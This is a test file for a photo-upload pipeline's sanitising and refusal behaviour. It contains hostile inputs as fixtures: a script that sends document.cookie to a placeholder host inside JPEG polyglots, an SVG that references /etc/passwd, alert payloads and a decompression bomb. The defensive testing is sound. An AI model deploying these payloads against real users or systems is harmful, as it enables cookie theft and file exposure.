import { createHash, randomBytes } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import { mkdirSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import sharp from 'sharp';
import { PAPER_PHOTO_SIDE } from '../../../src/main/photos/paper-output';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  PHOTO_INPUT_MAX_BYTES,
  PHOTO_MAX_BYTES,
  PHOTO_MAX_SIDE,
  THUMBNAIL_SIDE,
  preparePhoto,
  readPhotoFile,
  sniffPhotoType,
  thumbnailAsPng,
  type PreparedPhoto,
} from '../../../src/main/photos/prepare-photo';
import { ApiError } from '../../../src/shared/contract';
import { useTempDir } from '../../helpers/temp-dir';
import { FIFTY_MP, TWELVE_MP, noisePng, photoLikeJpeg, pngBomb } from './photo-fixtures';

/** The ApiError a call is refused with; anything else thrown, or no refusal, fails the test. */
async function refused(run: Promise<unknown>): Promise<ApiError> {
  const error = await run.then(
    () => new Error('expected a refusal'),
    (thrown: unknown) => thrown,
  );
  expect(error).toBeInstanceOf(ApiError);
  return error as ApiError;
}

const CHOOSE = 'choose a JPEG, PNG, WebP, GIF or AVIF file';
const isWebp = (bytes: Buffer) =>
  bytes.subarray(0, 4).toString('latin1') === 'RIFF' && bytes.subarray(8, 12).toString('latin1') === 'WEBP';

/** The prepared photo is what its fields say: two WebPs within their bounds, and the image's digest. */
async function expectWellFormed(photo: PreparedPhoto) {
  expect(isWebp(photo.image) && isWebp(photo.thumbnail)).toBe(true);
  expect(photo.image.length).toBeLessThanOrEqual(PHOTO_MAX_BYTES);
  expect(Math.max(photo.width, photo.height)).toBeLessThanOrEqual(PHOTO_MAX_SIDE);
  expect(photo.digest).toBe(createHash('sha256').update(photo.image).digest('hex'));
  const image = await sharp(photo.image).metadata();
  expect([image.format, image.width, image.height]).toEqual(['webp', photo.width, photo.height]);
  const thumbnail = await sharp(photo.thumbnail).metadata();
  expect(Math.max(thumbnail.width, thumbnail.height)).toBeLessThanOrEqual(THUMBNAIL_SIDE);
  // The same shape as the image, to the pixel rounding.
  expect(Math.abs(thumbnail.width / thumbnail.height - photo.width / photo.height)).toBeLessThan(0.02);
  // The photo as a card prints it: a JPEG of at most PAPER_PHOTO_SIDE, the same shape.
  const paper = await sharp(photo.paper).metadata();
  expect(paper.format).toBe('jpeg');
  expect(Math.max(paper.width, paper.height)).toBe(Math.min(PAPER_PHOTO_SIDE, Math.max(photo.width, photo.height)));
  expect(Math.abs(paper.width / paper.height - photo.width / photo.height)).toBeLessThan(0.02);
  return { image, thumbnail };
}

const mb = (bytes: number) => `${(bytes / 1024 / 1024).toFixed(1)} MB`;

let twelve: Buffer;
beforeAll(async () => {
  twelve = await photoLikeJpeg(TWELVE_MP.width, TWELVE_MP.height);
});

describe('a phone photo', () => {
  it('of 12 megapixels comes out 1600 pixels wide, under 300 KB, with a thumbnail of a few KB', async () => {
    const photo = await preparePhoto(twelve);
    await expectWellFormed(photo);
    expect([photo.width, photo.height]).toEqual([1600, 1200]);
    expect(photo.thumbnail.length).toBeLessThan(12 * 1024);
    const thumbnail = await sharp(photo.thumbnail).metadata();
    expect([thumbnail.width, thumbnail.height]).toEqual([160, 120]);
    console.log(
      `12 MP JPEG of ${mb(twelve.length)}: image ${photo.image.length} bytes, thumbnail ${photo.thumbnail.length}`,
    );
  });

  it('of 50 megapixels is taken, and made small the same way', async () => {
    const fifty = await photoLikeJpeg(FIFTY_MP.width, FIFTY_MP.height);
    expect(fifty.length).toBeLessThan(PHOTO_INPUT_MAX_BYTES);
    const started = performance.now();
    const photo = await preparePhoto(fifty);
    const ms = performance.now() - started;
    await expectWellFormed(photo);
    expect(photo.width).toBe(1600);
    expect(Math.abs(photo.height - (1600 * FIFTY_MP.height) / FIFTY_MP.width)).toBeLessThan(1);
    console.log(`50 MP JPEG of ${mb(fifty.length)} prepared in ${ms.toFixed(0)} ms, image ${photo.image.length} bytes`);
  });

  it('too detailed for 300 KB at any quality is made smaller until it fits', async () => {
    const photo = await preparePhoto(await noisePng(1600, 1600));
    await expectWellFormed(photo);
    expect(photo.width).toBeLessThan(1600);
    expect(photo.width).toBe(photo.height);
    console.log(`1600 × 1600 of noise: ${photo.width} × ${photo.height}, ${photo.image.length} bytes`);
  });

  it('turned by its EXIF orientation comes out upright', async () => {
    // Stored 300 wide, with orientation 6: shown turned a quarter clockwise, 200 wide.
    const sideways = await sharp({ create: { width: 300, height: 200, channels: 3, background: '#b05030' } })
      .withMetadata({ orientation: 6 })
      .jpeg()
      .toBuffer();
    expect((await sharp(sideways).metadata()).orientation).toBe(6);
    const photo = await preparePhoto(sideways);
    expect([photo.width, photo.height]).toEqual([200, 300]);
    const { image } = await expectWellFormed(photo);
    expect(image.orientation).toBeUndefined();
  });

  it('keeps no metadata: no location, no camera notes, no colour profile', async () => {
    const xmp =
      '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">' +
      '<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>Hidden XMP author</dc:creator>' +
      '</rdf:Description></rdf:RDF></x:xmpmeta>';
    const tagged = await sharp(await photoLikeJpeg(800, 600))
      .withExif({
        IFD0: { Copyright: 'Hidden EXIF owner' },
        IFD3: {
          GPSLatitudeRef: 'N',
          GPSLatitude: '51/1 30/1 1234/100',
          GPSLongitudeRef: 'W',
          GPSLongitude: '0/1 7/1 0/1',
        },
      })
      .withXmp(xmp)
      .withIccProfile('p3')
      .jpeg()
      .toBuffer();
    const input = await sharp(tagged).metadata();
    expect([Boolean(input.exif), Boolean(input.xmp), input.hasProfile]).toEqual([true, true, true]);
    expect(tagged.includes('Hidden EXIF owner') && tagged.includes('Hidden XMP author')).toBe(true);

    const photo = await preparePhoto(tagged);
    for (const output of [photo.image, photo.thumbnail]) {
      const metadata = await sharp(output).metadata();
      expect([metadata.exif, metadata.xmp, metadata.icc, metadata.hasProfile]).toEqual([
        undefined,
        undefined,
        undefined,
        false,
      ]);
      // Nor any of WebP's metadata chunks, nor the words themselves.
      for (const found of ['EXIF', 'XMP ', 'ICCP', 'Hidden', 'GPS']) expect(output.includes(found)).toBe(false);
    }
  });

  it('with a script after its end or in a comment is pixels only, the script gone', async () => {
    const script = '<script>fetch("https://example.invalid/?"+document.cookie)</script>';
    const jpeg = await photoLikeJpeg(640, 480);
    const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, script.length + 2]), Buffer.from(script)]);
    const polyglots = [
      Buffer.concat([jpeg, Buffer.from(`<html><body>${script}</body></html>`)]),
      Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)]),
    ];
    for (const polyglot of polyglots) {
      expect(polyglot.includes('<script>')).toBe(true);
      const photo = await preparePhoto(polyglot);
      await expectWellFormed(photo);
      expect(photo.image.includes('<script>') || photo.thumbnail.includes('<script>')).toBe(false);
      expect(photo.image.includes('document.cookie') || photo.thumbnail.includes('document.cookie')).toBe(false);
    }
  });
});

describe('other kinds of photo', () => {
  const frames = (colours: string[]) =>
    Promise.all(
      colours.map((background) =>
        sharp({ create: { width: 60, height: 40, channels: 3, background } })
          .png()
          .toBuffer(),
      ),
    );

  it('an animated GIF or WebP gives its first frame', async () => {
    const colours = await frames(['#ff0000', '#00ff00', '#0000ff']);
    for (const animated of [
      await sharp(colours, { join: { animated: true } })
        .gif()
        .toBuffer(),
      await sharp(colours, { join: { animated: true } })
        .webp()
        .toBuffer(),
    ]) {
      expect((await sharp(animated).metadata()).pages).toBe(3);
      const photo = await preparePhoto(animated);
      await expectWellFormed(photo);
      expect([photo.width, photo.height]).toEqual([60, 40]);
      const { dominant } = await sharp(photo.image).stats();
      expect(dominant.r).toBeGreaterThan(200);
      expect(dominant.g + dominant.b).toBeLessThan(60);
    }
  });

  it('a transparent PNG keeps its transparency', async () => {
    const png = await sharp({
      create: { width: 120, height: 80, channels: 4, background: { r: 0, g: 90, b: 0, alpha: 0.3 } },
    })
      .png()
      .toBuffer();
    const photo = await preparePhoto(png);
    const { image, thumbnail } = await expectWellFormed(photo);
    expect([image.hasAlpha, thumbnail.hasAlpha]).toEqual([true, true]);
  });

  it('an AVIF is taken', async () => {
    const avif = await sharp(await photoLikeJpeg(400, 300))
      .avif()
      .toBuffer();
    expect(sniffPhotoType(avif)).toBe('avif');
    const photo = await preparePhoto(avif);
    expect([photo.width, photo.height]).toEqual([400, 300]);
    await expectWellFormed(photo);
  });

  it('a 1 × 1 PNG is taken as it is, not enlarged', async () => {
    const dot = await sharp({ create: { width: 1, height: 1, channels: 3, background: '#123456' } })
      .png()
      .toBuffer();
    const photo = await preparePhoto(dot);
    await expectWellFormed(photo);
    expect([photo.width, photo.height]).toEqual([1, 1]);
    const thumbnail = await sharp(photo.thumbnail).metadata();
    expect([thumbnail.width, thumbnail.height]).toEqual([1, 1]);
  });
});

describe('what is refused', () => {
  it('is anything not a photo, by its first bytes, before any decoder sees it', async () => {
    const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><image href="file:///etc/passwd"/></svg>`;
    const heicHead = Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from('ftypheic\0\0\0\0mif1heic')]);
    const notPhotos: Array<[string, Uint8Array]> = [
      ['SVG', Buffer.from(svg)],
      ['SVG without a declaration', Buffer.from(svg.replace(/^<\?xml[^>]*>/, ''))],
      ['HTML', Buffer.from('<!doctype html><html><body><script>alert(1)</script></body></html>')],
      ['PDF', Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n')],
      [
        'TIFF',
        await sharp(await photoLikeJpeg(64, 48))
          .tiff()
          .toBuffer(),
      ],
      ['HEIC', Buffer.concat([heicHead, randomBytes(200)])],
      ['text', Buffer.from('a photo of a cat, honest')],
      ['random bytes', Buffer.concat([Buffer.from([0]), randomBytes(4096)])],
    ];
    for (const [kind, bytes] of notPhotos) {
      expect(sniffPhotoType(bytes), kind).toBeNull();
      const error = await refused(preparePhoto(bytes));
      expect([error.code, error.status], kind).toEqual(['unsupported_media_type', 415]);
      expect(error.fields).toEqual([{ field: 'photo', message: `is not a photo this app takes: ${CHOOSE}` }]);
      expect(error.message).toBe(`The file is not a photo this app takes: ${CHOOSE}.`);
    }
    const empty = await refused(preparePhoto(new Uint8Array(0)));
    expect([empty.code, empty.message]).toEqual(['unsupported_media_type', `The file is empty: ${CHOOSE}.`]);
  });

  it('and even handed to sharp directly, in this process an SVG or a TIFF is not decoded', async () => {
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>',
    );
    const tiff = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } })
      .tiff()
      .toBuffer();
    for (const bytes of [svg, tiff]) await expect(sharp(bytes).metadata()).rejects.toThrow(/unsupported image format/);
  });

  it('is a decompression bomb, by its header, without making room for its pixels', async () => {
    const bomb = pngBomb(100_000);
    expect(bomb.length).toBeLessThan(100);
    const before = process.memoryUsage().rss;
    const error = await refused(preparePhoto(bomb));
    expect(error.code).toBe('payload_too_large');
    expect(error.message).toBe(
      'The file is 100000 × 100000 pixels; at most 100 megapixels are taken: choose a smaller photo, or save a smaller copy of it.',
    );
    expect(error.fields?.[0]?.field).toBe('photo');
    // 30 GB of pixels, had they been made room for.
    expect(process.memoryUsage().rss - before).toBeLessThan(200 * 1024 * 1024);
  });

  it('is a file over 30 MB, before it is looked at', async () => {
    const large = Buffer.alloc(PHOTO_INPUT_MAX_BYTES + 1);
    large.set([0xff, 0xd8, 0xff]);
    const error = await refused(preparePhoto(large));
    expect([error.code, error.status]).toEqual(['payload_too_large', 413]);
    expect(error.message).toMatch(/^The file is over 30 MB; at most 30 MB is taken: choose a smaller photo/);
  });

  it('is a damaged or incomplete photo, rather than one half grey', async () => {
    const jpeg = await photoLikeJpeg(1200, 900);
    const damaged: Array<[string, Buffer]> = [
      ['JPEG', jpeg.subarray(0, Math.floor(jpeg.length * 0.6))],
      ['JPEG', Buffer.concat([jpeg.subarray(0, 3), randomBytes(5000)])],
      ['PNG', (await noisePng(300, 200)).subarray(0, 4000)],
      ['GIF', Buffer.concat([Buffer.from('GIF89a'), randomBytes(64)])],
      ['JPEG', Buffer.concat([jpeg.subarray(0, 3), Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')])],
    ];
    for (const [kind, bytes] of damaged) {
      const error = await refused(preparePhoto(bytes));
      expect(error.code, kind).toBe('invalid_body');
      expect(error.message).toBe(
        `The file could not be read as a ${kind}: the file is damaged or incomplete; choose another copy of the photo.`,
      );
    }
  });
});

describe('a photo file', () => {
  const dir = useTempDir();

  it('is read whole', async () => {
    const path = join(dir(), 'cat.jpg');
    writeFileSync(path, twelve);
    expect(Buffer.from(await readPhotoFile(path)).equals(twelve)).toBe(true);
  });

  it('over 30 MB is refused by its size, without reading it', async () => {
    const path = join(dir(), 'huge.jpg');
    writeFileSync(path, Buffer.from([0xff, 0xd8, 0xff]));
    truncateSync(path, 31 * 1024 * 1024); // sparse: 31 MB long, next to nothing on disk
    const started = performance.now();
    const error = await refused(readPhotoFile(path));
    const ms = performance.now() - started;
    expect([error.code, error.message]).toEqual([
      'payload_too_large',
      `${path} is 31 MB; at most 30 MB is taken: choose a smaller photo, or save a smaller copy of it.`,
    ]);
    console.log(`a 31 MB file refused in ${ms.toFixed(1)} ms`);
  });

  it('that is a folder, is missing, or is a pipe is refused with what to do', async () => {
    const folder = join(dir(), 'Photos');
    mkdirSync(folder);
    const asFolder = await refused(readPhotoFile(folder));
    expect([asFolder.code, asFolder.message]).toEqual([
      'invalid_body',
      `${folder} is a folder: choose a photo file in it.`,
    ]);
    const missing = join(dir(), 'gone.jpg');
    const asMissing = await refused(readPhotoFile(missing));
    expect([asMissing.code, asMissing.message]).toEqual([
      'invalid_body',
      `${missing} does not exist: check the name, or choose the photo again.`,
    ]);
    expect(asMissing.fields?.[0]?.field).toBe('photo');
    if (process.platform === 'win32') return;
    const pipe = join(dir(), 'pipe.jpg');
    execFileSync('mkfifo', [pipe]);
    const asPipe = await refused(readPhotoFile(pipe));
    expect([asPipe.code, asPipe.message]).toEqual(['invalid_body', `${pipe} is not a file: choose a photo file.`]);
  });
});

it('twenty photos prepared at once all come out, the same', async () => {
  const before = process.memoryUsage().rss;
  const photos = await Promise.all(Array.from({ length: 20 }, () => preparePhoto(twelve)));
  const after = process.memoryUsage().rss;
  expect(new Set(photos.map((photo) => photo.digest)).size).toBe(1);
  await expectWellFormed(photos[0]!);
  console.log(`20 at once: rss ${mb(before)} before, ${mb(after)} after`);
});

describe('a thumbnail for a native dialog', () => {
  it('is a PNG of a kept WebP thumbnail; anything else (a server may send it) is none, never decoded as something else', async () => {
    const { thumbnail } = await preparePhoto(
      await sharp({ create: { width: 300, height: 200, channels: 3, background: '#3a7' } })
        .jpeg()
        .toBuffer(),
    );
    const png = await thumbnailAsPng(thumbnail);
    expect(png?.subarray(1, 4).toString('latin1')).toBe('PNG');
    expect(await thumbnailAsPng(Buffer.from('<svg onload="alert(1)"/>'))).toBeNull();
    expect(await thumbnailAsPng(thumbnail.subarray(0, 40))).toBeNull();
    expect(await thumbnailAsPng(png!)).toBeNull();
  });
});
